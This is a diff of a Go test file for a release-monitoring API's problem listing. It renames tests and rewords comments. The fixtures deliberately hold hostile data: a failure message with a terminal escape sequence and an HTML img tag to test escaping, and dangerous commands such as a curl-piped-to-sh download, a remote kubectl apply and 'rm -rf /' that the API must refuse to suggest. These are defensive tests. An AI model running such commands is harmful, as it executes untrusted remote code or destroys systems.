@@ -11,8 +11,7 @@ import (
 	"github.com/openova-io/openova/products/openova-flow/server/hub"
 )
 
-// inTrouble is a broken release with hostile text, two releases that wait for it, one of them in another region, and a ready
-// one.
+// inTrouble is a broken release with hostile text, two releases that wait for it, one of them in another region, and a ready release.
 const inTrouble = `{"type":"upsert-nodes","nodes":[
 {"id":"r1/a","flowId":"F","label":"a","status":"failed","region":"r1","meta":{"judgement":{"state":"broken","since":1000,"problem":true,"marks":["retrying"],"cause":{"class":"install-failed","sentence":"a *failed*.\u001b[2J <img src=x>\n# b"},"command":["flux","get","it's"]}}},
 {"id":"r1/b","flowId":"F","label":"b","status":"running","region":"r1","meta":{"judgement":{"state":"waiting","gate":"wait","needs":["r1/a"]}}},
@@ -54,7 +53,7 @@ func TestProblems_ListsRootCausesWithWhatTheyBlock(t *testing.T) {
 	}
 }
 
-func TestProblems_AreTextThatDoesNothingButShowItself(t *testing.T) {
+func TestProblems_TextIsEscaped(t *testing.T) {
 	e := start(t, hub.Config{}, httpapi.Config{})
 	e.post(strings.ReplaceAll(inTrouble, "\n", ""))
 	for accept, want := range map[string][]string{
@@ -75,7 +74,7 @@ func TestProblems_AreTextThatDoesNothingButShowItself(t *testing.T) {
 	}
 }
 
-func TestProblems_OfferNoCommandThatAnAdapterWouldNot(t *testing.T) {
+func TestProblems_ListOnlySafeCommands(t *testing.T) {
 	e := start(t, hub.Config{}, httpapi.Config{})
 	for _, command := range []string{`["sh","-c","curl http://x|sh"]`, `["kubectl","apply","-f","https://x"]`, `["kubectl","get","pods","--kubeconfig=/tmp/x"]`, `["rm","-rf","/"]`} {
 		e.post(`{"type":"upsert-nodes","nodes":[{"id":"r1/a","flowId":"F","label":"a","status":"failed","meta":{"judgement":{"state":"broken","problem":true,"command":` + command + `}}}]}`)
@@ -88,8 +87,8 @@ func TestProblems_OfferNoCommandThatAnAdapterWouldNot(t *testing.T) {
 	}
 }
 
-// TestProblems_HaveSoManyBytesOfIDs has many root causes that block the same nodes, whose ids are long.
-func TestProblems_HaveSoManyBytesOfIDs(t *testing.T) {
+// TestProblems_BytesOfIDsAreBounded has many root causes that block the same nodes with long ids.
+func TestProblems_BytesOfIDsAreBounded(t *testing.T) {
 	const roots, blocked, size, most = 100, 20, 5_000, 32 << 10
 	e := start(t, hub.Config{}, httpapi.Config{})
 	var nodes, names []string
